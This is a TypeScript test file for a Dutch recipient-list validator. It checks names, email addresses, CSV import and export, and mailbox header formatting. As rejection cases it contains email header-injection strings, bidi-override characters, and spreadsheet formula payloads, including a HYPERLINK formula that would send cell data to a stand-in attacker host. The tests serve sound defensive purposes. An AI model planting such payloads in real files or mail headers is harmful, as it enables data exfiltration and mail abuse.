import { describe, expect, it } from 'vitest';
import { ImportRejectedError } from '../../functions/core/csv-reader';
import type { Municipality, Recipient } from '../../functions/core/organisation';
import {
  type RecipientInput,
  type RecipientProblem,
  checkRecipient,
  describeRecipient,
  describeRecipientProblem,
  formatMailbox,
  planRecipientList,
  readRecipientCsv,
  recipientsToCsv,
} from '../../functions/core/recipient-validation';

const municipalities: Municipality[] = [
  { name: 'Tiel', optedOut: false },
  { name: 'West Betuwe', optedOut: false },
];

const bytes = (text: string) => Buffer.from(text, 'utf8');
/** The bytes Excel writes for "CSV (gescheiden door lijstscheidingsteken)" on a Dutch Windows. */
const windows1252 = (text: string) => Buffer.from(text.replace(/’/g, '\x92'), 'latin1');

async function rejection(file: Uint8Array): Promise<ImportRejectedError> {
  const error = await readRecipientCsv(file, 'ontvangers.csv', municipalities).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(ImportRejectedError);
  return error as ImportRejectedError;
}

describe('a recipient is checked before it is stored', () => {
  const jan = (overrides: Partial<RecipientInput>): RecipientInput => ({ municipality: 'Tiel', role: 'ab-lid', name: 'Jan', email: 'jan@tiel.example', ...overrides });

  it.each([
    ['CR LF', 'Jan Jansen\r\nBcc: iedereen@example.org'],
    ['a bare LF', 'Jan\nJansen'],
    ['a NUL', 'Jan\u0000Jansen'],
    ['a Unicode line separator', 'Jan\u2028Jansen'],
  ])('rejects a name with %s (header injection)', (_, name) => {
    expect(checkRecipient(jan({ name }), municipalities)).toEqual({ problems: [{ field: 'naam', message: expect.stringContaining('de naam bevat een regeleinde of een ander stuurteken') }] });
  });

  it.each([
    ['U+001F (the last C0 control)', 'Jan\u001fJansen'],
    ['DEL', 'Jan\u007fJansen'],
    ['U+0080 (a C1 control)', 'Jan\u0080Jansen'],
    ['U+009F (the last C1 control)', 'Jan\u009fJansen'],
    ['a Unicode paragraph separator', 'Jan\u2029Jansen'],
  ])('rejects a name with %s', (_, name) => {
    expect(checkRecipient(jan({ name }), municipalities)).toEqual({ problems: [{ field: 'naam', message: 'de naam bevat een regeleinde of een ander stuurteken; haal dat weg' }] });
  });

  it('accepts a name with a space, a no-break space or a letter just past the controls', () => {
    expect(checkRecipient(jan({ name: 'Jan\u00a0Jansen ¡' }), municipalities)).toEqual({ recipient: { municipality: 'Tiel', role: 'ab-lid', name: 'Jan\u00a0Jansen ¡', email: 'jan@tiel.example' } });
  });

  it.each(['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'])('rejects a name with the bidi control U+%s', (char) => {
    expect(checkRecipient(jan({ name: `Jan${char}nesnaJ` }), municipalities)).toEqual({ problems: [{ field: 'naam', message: expect.stringContaining('leesrichting') }] });
  });

  it.each(['=HYPERLINK("http://evil.example/?x="&A1;"klik")', '@SUM(1+1)', '+31 6 1234', ' =1+1'])('rejects a name a spreadsheet would evaluate: %s', (name) => {
    expect(checkRecipient(jan({ name }), municipalities)).toEqual({ problems: [{ field: 'naam', message: expect.stringContaining('begint met =, + of @') }] });
  });

  it('accepts a name that only starts with a dash, or has = further on', () => {
    expect(checkRecipient(jan({ name: '-Jan' }), municipalities)).toHaveProperty('recipient');
    expect(checkRecipient(jan({ name: 'Jan = Piet' }), municipalities)).toHaveProperty('recipient');
  });

  it('rejects an address with a line break, showing it on one line, or that is no address', () => {
    expect(checkRecipient(jan({ email: 'jan@tiel.example\r\nBcc: x@y.nl' }), municipalities)).toEqual({
      problems: [{ field: 'email', message: 'het adres "jan@tiel.example\\r\\nBcc: x@y.nl" bevat een regeleinde of een ander stuurteken; geef één kaal adres, zoals naam@gemeente.nl' }],
    });
    expect(checkRecipient(jan({ email: 'jan at tiel' }), municipalities)).toEqual({
      problems: [{ field: 'email', message: '"jan at tiel" is geen geldig e-mailadres; schrijf het als naam@gemeente.nl' }],
    });
  });

  it('shows a long wrong address cut at 80 characters, and one of 80 whole', () => {
    const long = `${'a'.repeat(81)} at tiel`;
    const eighty = `${'b'.repeat(72)} at tiel`;
    expect(checkRecipient(jan({ email: long }), municipalities)).toEqual({
      problems: [{ field: 'email', message: `"${'a'.repeat(80)}…" is geen geldig e-mailadres; schrijf het als naam@gemeente.nl` }],
    });
    expect(checkRecipient(jan({ email: eighty }), municipalities)).toEqual({
      problems: [{ field: 'email', message: `"${eighty}" is geen geldig e-mailadres; schrijf het als naam@gemeente.nl` }],
    });
  });

  it('says the role is empty, also when it is only spaces, and lists the roles to choose from', () => {
    const problem: RecipientProblem = { field: 'rol', message: 'de rol is leeg', validValues: ['ab-lid', 'beleidsmedewerker', 'reviewer', 'gbo-lid'] };
    expect(checkRecipient(jan({ role: '' }), municipalities)).toEqual({ problems: [problem] });
    expect(checkRecipient(jan({ role: '   ' }), municipalities)).toEqual({ problems: [problem] });
    expect(describeRecipientProblem(problem)).toBe('de rol is leeg; kies ab-lid, beleidsmedewerker, reviewer of gbo-lid');
    expect(describeRecipientProblem({ field: 'naam', message: 'de naam is leeg' })).toBe('de naam is leeg');
  });

  it('takes a gbo-lid in any spelling, and only with a municipality', () => {
    expect(checkRecipient(jan({ role: 'GBO-lid' }), municipalities)).toMatchObject({ recipient: { role: 'gbo-lid' } });
    expect(checkRecipient(jan({ role: 'gbo lid', municipality: null }), municipalities)).toEqual({
      problems: [{ field: 'gemeente', message: 'de gemeente is leeg; een gbo-lid hoort bij een gemeente' }],
    });
  });

  it('quotes an unknown role without the spaces around it, and asks no municipality of it', () => {
    expect(checkRecipient(jan({ role: ' wethouder ', municipality: null }), municipalities)).toEqual({
      problems: [{ field: 'rol', message: '"wethouder" is geen rol', validValues: ['ab-lid', 'beleidsmedewerker', 'reviewer', 'gbo-lid'] }],
    });
  });

  it('takes a municipality of only spaces as empty', () => {
    expect(checkRecipient(jan({ municipality: '   ' }), municipalities)).toEqual({ problems: [{ field: 'gemeente', message: 'de gemeente is leeg; een ab-lid hoort bij een gemeente' }] });
  });

  it('accepts a known municipality and a role in any case and normalises name and address', () => {
    const result = checkRecipient({ municipality: 'west betuwe', role: 'Beleidsmedewerker', name: '  Piet  ', email: ' Piet@WestBetuwe.Example ' }, municipalities);
    expect(result).toEqual({ recipient: { municipality: 'West Betuwe', role: 'beleidsmedewerker', name: 'Piet', email: 'piet@westbetuwe.example' } });
    expect(checkRecipient(jan({ role: 'AB-lid' }), municipalities)).toEqual({ recipient: expect.objectContaining({ role: 'ab-lid' }) });
    expect(checkRecipient(jan({ role: 'AB lid' }), municipalities)).toEqual({ recipient: expect.objectContaining({ role: 'ab-lid' }) });
  });

  it('names every problem: unknown municipality, unknown role, empty name — with every valid value', () => {
    const result = checkRecipient({ municipality: 'Utrecht', role: 'wethouder', name: ' ', email: 'a@b.nl' }, municipalities);
    expect('problems' in result && result.problems).toEqual([
      { field: 'rol', message: '"wethouder" is geen rol', validValues: ['ab-lid', 'beleidsmedewerker', 'reviewer', 'gbo-lid'] },
      { field: 'naam', message: 'de naam is leeg' },
      { field: 'gemeente', message: '"Utrecht" is geen gemeente van de organisatie', validValues: ['Tiel', 'West Betuwe'] },
    ]);
    expect(checkRecipient(jan({ municipality: 'Utrecht' }), municipalities)).toEqual({
      problems: [{ field: 'gemeente', message: '"Utrecht" is geen gemeente van de organisatie', validValues: ['Tiel', 'West Betuwe'] }],
    });
  });

  it('wants a municipality for an AB-lid and none for a reviewer', () => {
    expect(checkRecipient(jan({ municipality: null }), municipalities)).toEqual({ problems: [{ field: 'gemeente', message: 'de gemeente is leeg; een ab-lid hoort bij een gemeente' }] });
    expect(checkRecipient(jan({ role: 'reviewer' }), municipalities)).toEqual({
      problems: [{ field: 'gemeente', message: 'een reviewer hoort bij geen gemeente; laat de gemeente leeg' }],
    });
  });
});

describe('the recipient CSV file is read as a whole', () => {
  const header = '\uFEFFgemeente;rol;naam;email\r\n';

  it('reads a file with a BOM, ";" and a quoted name', async () => {
    const file = await readRecipientCsv(bytes(`${header}Tiel;ab-lid;"Jansen; J.";jan@tiel.example\r\n;reviewer;Secretariaat GBO;gbo@werkzaak.example\r\n`), 'x.csv', municipalities);
    expect(file).toEqual({
      encoding: 'utf-8-bom',
      delimiter: ';',
      recipients: [
        { municipality: 'Tiel', role: 'ab-lid', name: 'Jansen; J.', email: 'jan@tiel.example' },
        { municipality: null, role: 'reviewer', name: 'Secretariaat GBO', email: 'gbo@werkzaak.example' },
      ],
    });
  });

  it('reads what Excel saves as Windows-1252, with the letters right and no U+FFFD', async () => {
    const file = await readRecipientCsv(windows1252('Gemeente;Rol;Naam;E-mail\r\nTiel;AB-lid;José Müller;jos@tiel.example\r\nTiel;Beleidsmedewerker;Jeroen van ’t Ééntje;jeroen@tiel.example\r\n'), 'x.csv', municipalities);
    expect(file.encoding).toBe('windows-1252');
    expect(file.recipients.map((r) => r.name)).toEqual(['José Müller', 'Jeroen van ’t Ééntje']);
    expect(JSON.stringify(file)).not.toContain('\uFFFD');
  });

  it('reads the ways Excel and people write it: "," separated, sep= line, trailing ";", header variants, roles in any case', async () => {
    const comma = await readRecipientCsv(bytes('Gemeente,Rol,Naam,E-mail\nTiel,AB-lid,"Jansen, J.",jan@tiel.example\n'), 'x.csv', municipalities);
    const excel = await readRecipientCsv(bytes('sep=;\r\nGEMEENTE;ROL;NAAM;e-mailadres;\r\nWest Betuwe;BELEIDSMEDEWERKER;Piet;piet@wb.example;\r\n;;;;\r\n'), 'x.csv', municipalities);
    const emailadres = await readRecipientCsv(bytes('naam;emailadres;gemeente;rol\nJan;jan@tiel.example;tiel;Ab-Lid\n'), 'x.csv', municipalities);
    expect(comma.recipients).toEqual([{ municipality: 'Tiel', role: 'ab-lid', name: 'Jansen, J.', email: 'jan@tiel.example' }]);
    expect(comma.delimiter).toBe(',');
    expect(excel.recipients).toEqual([{ municipality: 'West Betuwe', role: 'beleidsmedewerker', name: 'Piet', email: 'piet@wb.example' }]);
    expect(emailadres.recipients).toEqual([{ municipality: 'Tiel', role: 'ab-lid', name: 'Jan', email: 'jan@tiel.example' }]);
  });

  it('refuses a file with only its header: an import never empties the list', async () => {
    const error = await rejection(bytes(header));
    expect(error.message).toContain('het bestand heeft alleen een kopregel en geen rijen');
  });

  it('rejects the whole file, naming each row, for a CRLF in a quoted name and a duplicate address', async () => {
    const csv = `${header}Tiel;ab-lid;Jan;jan@tiel.example\r\nTiel;ab-lid;"Piet\r\nBcc: x@y.nl";piet@tiel.example\r\nTiel;beleidsmedewerker;Jan J.;JAN@tiel.example\r\nWest Betuwe;ab-lid;Jan;jan@tiel.example\r\n`;
    const error = await rejection(bytes(csv));
    expect(error.message).toMatch(/^ontvangers\.csv is geweigerd \(2 fouten\); er is niets gewijzigd/);
    expect(error.message).toContain('rij 3, kolom naam: de naam bevat een regeleinde');
    expect(error.message).toContain('rij 4, kolom email: jan@tiel.example staat al op rij 2 voor Tiel');
  });

  it('names a reviewer address given twice', async () => {
    const error = await rejection(bytes(`${header};reviewer;Kees;kees@werkzaak.example\r\n;reviewer;K. de Vries;Kees@Werkzaak.example\r\n`));
    expect(error.message.split('\n').slice(1)).toEqual(['  rij 3, kolom email: kees@werkzaak.example staat al op rij 2 voor de reviewers; houd er één van over']);
  });

  it('refuses formula names and bidi characters, and lists every valid municipality and role once', async () => {
    const csv = `${header}Tiel;ab-lid;"=HYPERLINK(""http://evil.example/?x=""&A1;""klik"")";jan@tiel.example\r\nTiel;ab-lid;@SUM(1+1);piet@tiel.example\r\nUtrecht;wethouder;Kees\u202eteeK;kees@tiel.example\r\n`;
    const error = await rejection(bytes(csv));
    expect(error.message).toContain('rijen 2 en 3, kolom naam: de naam begint met =, + of @');
    expect(error.message).toContain('rij 4, kolom rol: "wethouder" is geen rol');
    expect(error.message).toContain('rij 4, kolom naam: de naam bevat een teken dat de leesrichting omdraait');
    expect(error.message).toContain('Geldige waarden in kolom rol: ab-lid, beleidsmedewerker, reviewer, gbo-lid.');
    expect(error.message).toContain('Geldige waarden in kolom gemeente: Tiel, West Betuwe.');
  });

  it('says which columns the header lacks', async () => {
    const error = await rejection(bytes('gemeente;naam\nTiel;Jan\n'));
    expect(error.message).toContain('rij 1: de kopregel "gemeente;naam" mist de kolommen rol en email; verwacht gemeente;rol;naam;email');
  });

  it('exports what it imports, also a name that starts with a dash (neutralised in the file, not in the list)', async () => {
    const list: Recipient[] = [
      { municipality: null, role: 'reviewer', name: 'Team "Beleid"', email: 'beleid@werkzaak.example' },
      { municipality: 'Tiel', role: 'ab-lid', name: '-Jan', email: 'jan@tiel.example' },
    ];
    const csv = recipientsToCsv(list);
    expect(csv.startsWith("\uFEFFgemeente;rol;naam;email\r\nTiel;ab-lid;'-Jan;")).toBe(true);
    expect((await readRecipientCsv(bytes(csv), 'x.csv', municipalities)).recipients).toEqual([list[1], list[0]]);
  });
});

describe('the recipient list as a file', () => {
  it('sorts by municipality, then role, then address, with the reviewers last', () => {
    const list: Recipient[] = [
      { municipality: null, role: 'reviewer', name: 'Kees', email: 'kees@werkzaak.example' },
      { municipality: 'West Betuwe', role: 'beleidsmedewerker', name: 'Wim', email: 'wim@wb.example' },
      { municipality: 'Tiel', role: 'beleidsmedewerker', name: 'Bea', email: 'bea@tiel.example' },
      { municipality: 'Tiel', role: 'ab-lid', name: 'Piet', email: 'piet@tiel.example' },
      { municipality: 'Tiel', role: 'ab-lid', name: 'Jan', email: 'jan@tiel.example' },
      { municipality: 'Buren', role: 'beleidsmedewerker', name: 'Ali', email: 'ali@buren.example' },
      { municipality: null, role: 'reviewer', name: 'Anna', email: 'anna@werkzaak.example' },
    ];
    expect(recipientsToCsv(list)).toBe(
      [
        '\uFEFFgemeente;rol;naam;email',
        'Buren;beleidsmedewerker;Ali;ali@buren.example',
        'Tiel;ab-lid;Jan;jan@tiel.example',
        'Tiel;ab-lid;Piet;piet@tiel.example',
        'Tiel;beleidsmedewerker;Bea;bea@tiel.example',
        'West Betuwe;beleidsmedewerker;Wim;wim@wb.example',
        ';reviewer;Anna;anna@werkzaak.example',
        ';reviewer;Kees;kees@werkzaak.example',
        '',
      ].join('\r\n'),
    );
  });

  it('describes a recipient on one line for an operator', () => {
    expect(describeRecipient({ municipality: 'Tiel', role: 'ab-lid', name: 'Jan Jansen', email: 'jan@tiel.example' })).toBe('Jan Jansen <jan@tiel.example> (Tiel, ab-lid)');
    expect(describeRecipient({ municipality: null, role: 'reviewer', name: 'Kees', email: 'kees@werkzaak.example' })).toBe('Kees <kees@werkzaak.example> (reviewers, reviewer)');
  });
});

describe('an import compared with the list', () => {
  it('counts a recipient with the same name and role as unchanged, and a new role as a change', () => {
    const jan: Recipient = { municipality: 'Tiel', role: 'ab-lid', name: 'Jan', email: 'jan@tiel.example' };
    const piet: Recipient = { municipality: 'Tiel', role: 'ab-lid', name: 'Piet', email: 'piet@tiel.example' };
    const plan = planRecipientList([jan, piet], [jan, { ...piet, role: 'beleidsmedewerker' }]);
    expect(plan).toEqual({ added: [], changed: [{ before: piet, after: { ...piet, role: 'beleidsmedewerker' } }], removed: [], unchanged: 1 });
  });

  it('says who is added, changed and removed', () => {
    const jan: Recipient = { municipality: 'Tiel', role: 'ab-lid', name: 'Jan', email: 'jan@tiel.example' };
    const piet: Recipient = { municipality: 'Tiel', role: 'ab-lid', name: 'Piet', email: 'piet@tiel.example' };
    const kees: Recipient = { municipality: null, role: 'reviewer', name: 'Kees', email: 'kees@werkzaak.example' };
    const plan = planRecipientList([jan, piet], [{ ...jan, name: 'Jan Jansen' }, kees]);
    expect(plan).toEqual({ added: [kees], changed: [{ before: jan, after: { ...jan, name: 'Jan Jansen' } }], removed: [piet], unchanged: 0 });
  });
});

describe('a mailbox header', () => {
  it('quotes the name and drops quotes, backslashes and control characters from it', () => {
    expect(formatMailbox('Jan "de" \\Jansen\r\n', 'jan@tiel.example')).toBe('"Jan de Jansen" <jan@tiel.example>');
    expect(formatMailbox(undefined, 'jan@tiel.example')).toBe('jan@tiel.example');
    expect(formatMailbox('  Jan\r\nBcc: x\u202e  ', 'jan@tiel.example')).toBe('"JanBcc: x" <jan@tiel.example>');
    expect(formatMailbox('\r\n', 'jan@tiel.example')).toBe('jan@tiel.example');
  });
});
